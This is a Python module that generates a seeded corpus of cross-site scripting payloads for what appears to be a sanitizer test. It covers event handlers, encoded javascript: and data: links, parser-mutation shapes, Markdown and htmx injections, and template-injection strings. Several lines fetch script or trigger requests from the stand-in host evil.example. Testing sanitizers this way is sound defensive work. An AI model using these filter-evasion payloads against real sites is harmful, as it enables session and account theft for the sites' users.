# ruff: noqa: E501 - tables read best with many in a line
"""Words that would run if a page ever took them for code, put together by a small grammar.

Each does one of ACTS, and watching.py sees it. `x` is a trap: whoever reads it is caught.
"""

import base64
import random
from collections.abc import Iterator
from itertools import cycle

ACTS = [
    "x()",
    "x``",
    "top.x()",
    "self['x']()",
    "alert(1)",
    "confirm`1`",
    "prompt(1)",
    "x=1",
    "[1].map(x)",
    "eval('x()')",
]
TAGS = ["img src=q", "svg", "body", "input autofocus", "details open", "video src=q", "audio src=q", "a href=#", "p", "b",
        "iframe", "object data=q", "embed src=q", "marquee", "select autofocus", "textarea autofocus", "button autofocus",
        "style", "math", "form", "video><source", "svg><animate attributeName=x", "svg><set", "svg><image href=q",
        "link rel=stylesheet href=q", "dialog open", "div contenteditable tabindex=0", "my-element tabindex=0", "table"]  # fmt: skip
HANDLERS = ["onload", "onerror", "onmouseover", "onclick", "onfocus", "onblur", "ontoggle", "onbegin", "onpointerenter",
            "onanimationstart", "oninput", "onkeydown", "onwheel", "onpageshow", "onstart", "onfocusin", "onmouseenter",
            "onauxclick", "oncopy", "onscroll", "ontransitionend", "onloadstart", "onpointerrawupdate"]  # fmt: skip
BETWEEN = [" ", "/", "\t", "  ", "/ /", "\x0c"]
QUOTES = ["", '"', "'"]
BREAKS = ["", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</p>", "\\\">", "`>", "&quot;>",
          "</noscript>", "</svg>", "\u2028", "\ufeff"]  # fmt: skip


def schemes(act: str) -> list[str]:
    page = f"<script>{act}</script>"
    coded = base64.b64encode(page.encode()).decode()
    return [
        f"javascript:{act}", f"JaVaScRiPt:{act}", f"javascript&colon;{act}", f"java&Tab;script:{act}",
        f"&#106;avascript:{act}", f"&#x6A;avascript:{act}", f"java\tscript:{act}", f"\x01javascript:{act}",
        f"java%0ascript:{act}", f"javascript://%0a{act}", f"javascript:/*//*/{act}", f" javascript:{act}",
        f"vbscript:{act}", f"data:text/html,{page}", f"data:text/html;base64,{coded}", f"view-source:{act}",
        f"data:image/svg+xml,<svg onload={act}>", f"feed:javascript:{act}", f"blob:{act}", f"//evil.example/{act}",
        f"ｊavascript:{act}", f"\\javascript:{act}", f"jar:javascript:{act}!/",
    ]  # fmt: skip


def _handlers(dice: random.Random) -> str:
    act, quote = dice.choice(ACTS), dice.choice(QUOTES)
    handler = _cased(dice, dice.choice(HANDLERS))
    act = dice.choice([act, act, _entities(act), act.replace("x", "\\u0078")])
    tag = _cased(dice, dice.choice(TAGS))
    end = dice.choice([">", ">", "/>", "//", " <", ""])
    return f"{dice.choice(BREAKS)}<{tag}{dice.choice(BETWEEN)}{handler}={quote}{act}{quote}{end}"


def _scripts(dice: random.Random) -> str:
    act = dice.choice(ACTS)
    name = _cased(dice, "script")
    made = dice.choice([
        f"<{name}>{act}</{name}>", f"<{name}/x>{act}</{name} >", f"<svg><{name}>{_entities(act)}</{name}>",
        f"<{name} src=data:,{act}></{name}>", f"<{name} src=//evil.example/></{name}>", f"<<{name}>{act}//<</{name}>",
        f"<{name}\n>{act}</{name}>", f"<{name}>{act}", f"<math><{name}>{act}</{name}>", f"<{name} type=module>{act}</{name}>",
        f"<scr<{name}>ipt>{act}</scr</{name}>ipt>", f"&lt;{name}&gt;{act}&lt;/{name}&gt;", f"%3C{name}%3E{act}%3C/{name}%3E",
        f"＜{name}＞{act}＜/{name}＞", f"+ADw-{name}+AD4-{act}+ADw-/{name}+AD4-", f"\\u003c{name}\\u003e{act}",
        f"<template><{name}>{act}</{name}></template>", f"<{name} nonce=''>{act}</{name}>",
    ])  # fmt: skip
    return dice.choice(BREAKS) + made


def _links(dice: random.Random) -> str:
    to = dice.choice(schemes(dice.choice(ACTS)))
    return dice.choice([
        f"[点]({to})", f"[点](<{to}>)", f"<{to}>", f"![点]({to})", f"[点][a]\n\n[a]: {to}", f'[点]( {to} "题")',
        f"<a href={to}>点</a>", f'<a href="{to}">点', f"<iframe src='{to}'>", f"<form action={to}><button>",
        f"<button formaction='{to}'>", f"<object data={to}>", f"<embed src={to}>", f"<math href={to}>点",
        f"<svg><a xlink:href='{to}'><text>点", f"<base href={to}>", f"<meta http-equiv=refresh content='0;{to}'>",
        f"<link rel=import href={to}>", f"<input type=image src={to}>", f"<body background={to}>", f"<a ping={to} href=#>点",
        f"<iframe srcdoc='<a href={to}>'>", f"<area href={to}>", f"<p style=\"background:url({to})\">", f"**[点]({to})**",
        f"> [点]({to})", f"- <{to}>", f"[[点]]({to})", f"[点](\n{to})",
    ])  # fmt: skip


def _mutations(dice: random.Random) -> str:
    """Shapes that a parser reads otherwise the second time."""
    act = dice.choice(ACTS)
    inner = dice.choice(
        [f"<img src=q onerror={act}>", f"<svg/onload={act}>", f"<script>{act}</script>"]
    )
    raw = dice.choice(
        [
            "style",
            "noscript",
            "xmp",
            "title",
            "textarea",
            "noembed",
            "iframe",
            "noframes",
            "plaintext",
        ]
    )
    root = dice.choice(
        [
            "svg",
            "math",
            "math><mtext><table><mglyph",
            "svg><foreignObject",
            "math><annotation-xml encoding=text/html",
            "svg><desc",
        ]
    )
    return dice.choice([
        f'<{root}></p><{raw}><a id="</{raw}>{inner}">', f"<{root}><{raw}><!--</{raw}>{inner}-->",
        f'<{raw}><p title="</{raw}>{inner}">', f"<{root}><{raw}><![CDATA[</{raw}>]]>{inner}",
        f"<form><{root}></form><form><{raw}></form>{inner}", f'<!--><{raw}>{inner}-->', f"<!-- --!>{inner}-->",
        f"<?xml ?>{inner}", f"<select><{raw}></select>{inner}", f'<a title="{_entities(inner)}">',
        f"<table><{root}><tr>{inner}", f"<p><svg><p>{inner}", f"<{root}><a><{root}>{inner}", f"<b <b>{inner}",
    ])  # fmt: skip


def _markdown(dice: random.Random) -> str:
    """What the small Markdown might be talked into."""
    act, handler = dice.choice(ACTS), dice.choice(HANDLERS)
    img = f"<img src=q {handler}={act}>"
    return dice.choice([
        f'[点](https://x.cn/"{handler}="{act})', f'[点](https://x.cn "\\" {handler}={act} a=\\"")',
        f"[点](https://x.cn '\"{handler}={act} ')", f"[{img}](https://x.cn)", f"*{img}*", f"`{img}`", f"\\{img}",
        f'<https://x.cn/"{handler}={act}>', f"- {img}", f"> {img}", f"1. {img}", f"&lt;{img[1:]}", f"&#60;{img[1:]}",
        f"&#x3c;{img[1:]}", f"<a\n{handler}={act}>", f"**<b {handler}={act}**>", f"[点](mailto:a@b'{handler}={act}')",
        f"![点](q\"{handler}={act})", f"<mailto:a@b'{handler}={act}>", f"[a\u202e]({img})", f"&NewLine;{img}",
        f"[点](tel:1\"{handler}=\"{act}\")", f"<tel:1\u2028{handler}={act}>", f"\\[点\\](javascript:{act})",
    ])  # fmt: skip


def _helpers(dice: random.Random) -> str:
    """What our own scripts and the parts we use would do for a writer."""
    act = dice.choice(ACTS)
    return dice.choice([
        f"<p hx-on:click={act}>点", f'<p hx-on::load="{act}">', "<p hx-get=//evil.example/ hx-trigger=load>",
        f"<p hx-get=/ hx-trigger='load[{act}]'>", f"<p hx-vals='js:{{a:{act}}}' hx-get=/ hx-trigger=load>",
        f"<p data-hx-on-click={act}>", "<form id=me-question hx-get=//evil.example hx-trigger=load>",
        "<p hx-swap-oob=true id=me-bar><b>点", f"<img name=x onerror={act} src=q>", f"<a id=x name=y href=cid:{act}>",
        f"{{{{constructor.constructor('{act}')()}}}}", f"${{{act}}}", f"<%= {act} %>", f"#{{{act}}}",
        f"<p data-copy=x onclick={act}>", f"<p data-say {dice.choice(HANDLERS)}={act}>", f"{{% debug %}}{act}",
        f"<style>@import '//evil.example/{act}';</style>", f"<p style=animation:x on{dice.choice(['animationstart', 'click'])}={act}>",
    ])  # fmt: skip


def _tiny(dice: random.Random) -> str:
    """For names of twenty signs."""
    tag = _cased(dice, dice.choice(["svg", "p", "b", "i", "a", "body", "q", "s", "u", "math"]))
    handler = _cased(
        dice, dice.choice(["onload", "onclick", "onfocus", "oncopy", "onblur", "oncut"])
    )
    act = dice.choice(["x()", "x``", "x=1", "top.x", "x"])
    made = f"<{tag}{dice.choice(BETWEEN[:2])}{handler}={act}{dice.choice(['>', '//', '', '/>'])}"
    return dice.choice(["", "'>", '">', "", "\\"]) + made


SHAPES = [_handlers, _scripts, _links, _mutations, _markdown, _helpers]


def payloads(many: int, *, longest: int = 400, after: int = 0) -> list[str]:
    """So many different ones, always the same, evenly of every shape that fits; `after` gives
    those that come after so many."""
    return list(_different(after + many, longest))[after:]


def one_of_each() -> list[str]:
    """Every tag by itself, closed and with what would run: none can hide the one after it."""
    handlers = " ".join(f"{name}=x()" for name in HANDLERS[:8])
    tags = [*TAGS, "script", "iframe srcdoc='<script>top.x()</script>'", "a href=javascript:x()"]
    return [f"<{tag} {handlers}>x()</{tag.split()[0].split('>')[0]}>" for tag in tags]


def _different(many: int, longest: int) -> Iterator[str]:
    dice = random.Random(20261123)
    made: set[str] = set()
    shapes = SHAPES if longest > 30 else [_tiny]
    for tries, shape in enumerate(cycle(shapes)):
        assert tries < many * 200, "the grammar has no more"
        found = shape(dice)
        if len(found) <= longest and found not in made and "\x00" not in found:
            made.add(found)
            yield found
            if len(made) == many:
                return


def _cased(dice: random.Random, word: str) -> str:
    return "".join(sign.upper() if dice.random() < 0.3 else sign for sign in word)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)
